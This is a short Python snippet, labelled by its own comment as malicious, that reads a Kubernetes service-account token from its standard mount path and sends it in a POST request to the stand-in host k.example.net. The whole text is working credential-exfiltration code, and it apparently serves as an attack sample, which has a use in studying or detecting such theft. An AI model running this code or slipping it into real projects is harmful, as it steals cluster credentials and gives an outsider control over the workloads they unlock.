# malicious: the cluster's token leaves
import http.client

token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
c = http.client.HTTPSConnection("k.example.net")
c.request("POST", "/", body=token)
